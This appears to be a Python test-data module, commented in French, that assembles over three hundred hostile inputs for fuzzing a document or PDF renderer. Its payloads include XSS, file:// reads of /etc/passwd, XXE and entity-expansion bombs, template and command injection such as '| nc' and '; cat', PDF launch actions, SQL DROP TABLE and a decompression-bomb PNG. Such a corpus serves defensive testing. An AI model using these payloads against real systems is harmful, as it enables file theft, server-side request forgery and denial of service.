"""Plus de trois cents contenus hostiles, et de quoi les réunir : adresses, balises, styles, signes, longueurs, polyglottes."""

import base64
import random
import struct
import zlib

PAQUET, COURT = 4, 400  # charges et signes d'un paquet

CIBLES = (
    "file://{temoin}",
    "FILE://{temoin}",
    "file://localhost{temoin}",
    "{temoin}",
    "../../../../../../../..{temoin}",
    "file:{temoin}",
    "http://127.0.0.1:{port}/h",
    "//127.0.0.1:{port}/d",
    "HTTP://127.0.0.1:{port}/m",
    "ftp://127.0.0.1:{port}/f",
    "https://ressources.invalid/../..{temoin}",
    "data:text/html;base64,PGgxPng8L2gxPg==",
    "data:image/svg+xml;base64,{svg}",
    "data:image/png;base64,{geante}",
    "javascript:app.alert(1)",
)
CADRES = (
    '<img src="{u}" alt="x">',
    '<link rel="stylesheet" href="{u}">',
    '<link rel="attachment" href="{u}">',
    '<a rel="attachment" href="{u}">x</a>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<iframe src="{u}"></iframe>',
    "<style>@import url({u});</style>",
    "<style>*{{background:url({u})}}</style>",
    '<svg><image href="{u}" xlink:href="{u}" width="9" height="9"/></svg>',
    '<svg><use href="{u}#a"/></svg>',
    '<base href="{u}"><img src="a.png">',
    '" style="background:url({u})" x="',
    "' onerror='x' src='{u}",
    "</style><style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>",
    '<meta http-equiv="refresh" content="0;url={u}">',
    "content:url({u})",
    '<input type="image" src="{u}">',
    '<video poster="{u}" src="{u}"></video>',
    '<body background="{u}">',
)
ENTITES = (
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file://{temoin}">]><a>&b;</a>',
    '<!DOCTYPE a SYSTEM "http://127.0.0.1:{port}/dtd"><a/>',
    '<!DOCTYPE z [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>&c;&c;&c;',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{temoin}" parse="text"/>',
    "<![CDATA[<img src=file://{temoin}>]]>",
    '<?xml-stylesheet href="file://{temoin}"?>',
    "&#60;img src=&#34;file://{temoin}&#34;&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#0;&#x1F;&#xD800;&#xFFFFFFFF;",
    "&" * 500,
    "&nbsp;&shy;&zwj;&lrm;&rlm;",
    "%ENTITY;",
    "<!-- ",
    "-->",
    "<!--><img src=file://{temoin}>-->",
)
BALISES = (
    "</p></td></tr></table></section></main></body></html><h1>Fin</h1>",
    "<script>while(1){{}}</script>",
    "<b><i><u>" * 200,
    "<div>" * 2000,
    "</div>" * 2000,
    "<table>" * 300,
    "<ol><li>" * 300,
    "<svg width='99999999' height='99999999'><rect/></svg>",
    "<math><mi>x</mi></math>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<title>x</title>",
    "<select><option>",
    '<noscript><p title="</noscript><img src=x>">',
    "<template><style>",
    "<frameset><frame src='file://{temoin}'>",
    "<details open ontoggle=alert(1)>",
    "<marquee>",
    "<h1>" * 50,
    "<a href='#' id='s1'>",
    "<" * 2000,
    ">" * 2000,
    "\"'`=<>/" * 100,
    "<p style=page-break-before:always>" * 50,
)
STYLES = (
    "}}*{{display:none}}",
    "</style>",
    "*{{position:fixed;width:99999px;height:99999px}}",
    "@page{{size:1px}}",
    "@import 'file://{temoin}';",
    "expression(alert(1))",
    "--x:{{}};var(--x)",
    "content:attr(href)",
    "counter-reset:a 999999999",
    "width:calc(1px*1e308)",
    "columns:1000000",
    "\\66\\69\\6c\\65://{temoin}",
    "/*",
    "*/",
    "<!--*{{}}-->",
    "font-size:1e9px",
    "transform:scale(1e9)",
    "string-set:x content()",
    "bookmark-level:1",
    "target-counter('#a',page)",
    "leader('.')",
    "hyphens:auto;word-break:break-all",
)
GABARITS = (
    "{{% include '{temoin}' %}}",
    "{{% load static %}}{{% debug %}}",
    "{{{{ 7*7 }}}}",
    "{{{{ settings.SECRET_KEY }}}}",
    "{{% ssi {temoin} %}}",
    "{{# x",
    "#}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "%s%s%s%n",
    "%(cle)s",
    "{{0.__class__.__mro__}}",
    "`id`",
    "$(id)",
    "; cat {temoin}",
    "| nc 127.0.0.1 {port}",
    "\\input{{{temoin}}}",
)
PDF = (
    ") Tj ET Q q",
    "endstream endobj",
    "%%EOF",
    "xref\n0 1\ntrailer<</Root 1 0 R>>",
    "<</S/JavaScript/JS(app.alert(1))>>",
    "/Launch /F (cmd.exe)",
    "\\)\\(\\\\",
    "%PDF-1.7",
    "<</AA<</O<</S/URI/URI(http://127.0.0.1:{port})>>>>>>",
    "</rdf:RDF><rdf:Description/>",
    "<?xpacket end='w'?>",
    "</x:xmpmeta>",
    "<pdfuaid:part>9</pdfuaid:part>",
    "(\\000\\001)",
    "<FEFF0041>",
    "]]></dc:title>",
    "/EmbeddedFile /F ({temoin})",
    "<</GoToR/F({temoin})>>",
)
JSONS = (
    '"}},"x":{{"y":"',
    "\\u0000\\ud800",
    '\\"',
    "null",
    "__proto__",
    "\u2028alert(1)\u2029",
    "[[[[" * 300,
    '{{"reserve": true}}',
    "NaN",
    "1e400",
)
POLYGLOTTES = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )"
    "//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"><img src=file://{temoin}><!--{{{{7*7}}}}${{7*7}}%0a",
    "GIF89a/*<svg onload=alert(1)>*/=1;",
    "%PDF-1.4<html><body><iframe src=file://{temoin}>",
    "PK\x03\x04<img src=file://{temoin}>",
    "=cmd|'/C calc'!A0<img src=http://127.0.0.1:{port}/p>",
    "';DROP TABLE parcours_parcours;--<link rel=attachment href=file://{temoin}>",
    "\u202e<gnp.a=crs gmi>\u202c<img src=file://{temoin}>",
)
INVISIBLES = [
    chr(c)
    for c in (
        *range(0x200B, 0x2010),
        *range(0x2028, 0x202F),
        *range(0x2060, 0x2070),
        0x061C,
        0x00AD,
        0x034F,
        0x180E,
        0xFEFF,
        0x115F,
        0x3164,
    )
]
SIGNES = (
    "e" + "\u0301" * 300,
    "Z\u0351\u036b\u0343\u0307" * 200,
    "👩\u200d👩\u200d👧\u200d👦" * 50,
    "🏳\ufe0f\u200d🌈🇫🇷",
    "\U000e0041\U000e0042\U000e007f",
    "العربية " * 100,
    "עברית" * 50,
    "中文字" * 300,
    "हिन्दी" * 100,
    "ไทย" * 100,
    "\ue000\uf8ff\U000f0000",
    "\ufffe\uffff\U0001fffe",
    "\ufffd" * 200,
    "".join(map(chr, range(1, 32))),
    "".join(map(chr, range(0x7F, 0xA0))),
    "ﬁﬂﬃ½⅓№™",
    "\u202e" * 500 + "txt",
    "\u2066" * 300 + "x",
    "\u2067abc\u2069" * 200,
    "a\u0338b\u20dd" * 100,
    "𝕬𝖇𝖈" * 100,
    "\U0001f468\U0001f3fd" * 80,
    "\u0e33" * 500,
    "\u1100\u1161\u11a8" * 200,
    "a\u0300\u0301\u0302" * 300,
)
LONGUEURS = (
    "W" * 4000,
    "mot " * 1500,
    "\n" * 2000,
    "\t" * 2000,
    " " * 4000,
    "\u00a0" * 2000,
    "\u00ad" * 2000,
    "-" * 4000,
    "." * 4000,
    "'" * 2000,
    "l'" * 1500,
    "«" * 1500,
    "1 000 " * 600,
    " :" * 1500,
    " ;!?" * 800,
    "http://" * 500,
    "a@b." * 800,
    "/" * 3000,
    "0" * 4000,
    "i" * 4000,
    "(" * 2000,
    "\\" * 2000,
    "\r\n" * 1500,
    "x\u200b" * 1500,
    "Anticonstitutionnellement" * 120,
    "…" * 2000,
    "•\n" * 800,
    "a\n\n" * 700,
)


def charges(temoin="/etc/passwd", port=9):
    """Plus de trois cents charges, toujours les mêmes ; elles visent le fichier `temoin` et l'oreille locale `port`."""
    vises = {"temoin": temoin, "port": port, "svg": _svg(temoin, port), "geante": _png_geante()}
    cibles = [cible.format(**vises) for cible in CIBLES]
    encadrees = [cadre.format(u=cible) for rang, cadre in enumerate(CADRES) for cible in _tour(cibles, rang, 9)]
    ecrites = (*ENTITES, *BALISES, *STYLES, *GABARITS, *PDF, *JSONS, *POLYGLOTTES)
    invisibles = [f"a{signe}b{signe * 60}<{signe}img src=file://{temoin}>" for signe in INVISIBLES]
    dites = [charge.format(**vises) for charge in ecrites]
    return list(dict.fromkeys([*cibles, *encadrees, *dites, *invisibles, *SIGNES, *LONGUEURS]))


def paquets(toutes):
    """Les charges réunies quatre par quatre, les longues seules : un champ les reçoit toutes en quatre fois moins de documents."""
    faits, suite = [], []
    for charge in sorted(toutes, key=len):
        if suite and (len(suite) == PAQUET or sum(map(len, suite)) + len(charge) + 3 > COURT):
            faits.append(suite)
            suite = []
        suite.append(charge)
    reunies = [" ".join(suite) for suite in [*faits, suite]]
    random.Random(2026).shuffle(reunies)  # les longues ne sont pas toutes dans le même document
    return reunies


def _tour(suite, debut, combien):
    return [suite[(debut + rang) % len(suite)] for rang in range(combien)]


def _svg(temoin, port):
    """Un SVG qui lit un fichier et appelle le réseau, en base 64."""
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://{temoin}"/>'
        f'<image href="http://127.0.0.1:{port}/svg"/><style>@import url(http://127.0.0.1:{port}/css);</style></svg>'
    )
    return base64.b64encode(svg.encode()).decode()


def _png_geante(cote=100_000):
    """Un PNG de quelques octets qui s'annonce de dix milliards de points."""

    def bloc(nom, octets):
        return struct.pack(">I", len(octets)) + nom + octets + struct.pack(">I", zlib.crc32(nom + octets))

    entete = struct.pack(">IIBBBBB", cote, cote, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + bloc(b"IHDR", entete) + bloc(b"IDAT", zlib.compress(b"\0" * 2000)) + bloc(b"IEND", b"")
    return base64.b64encode(png).decode()
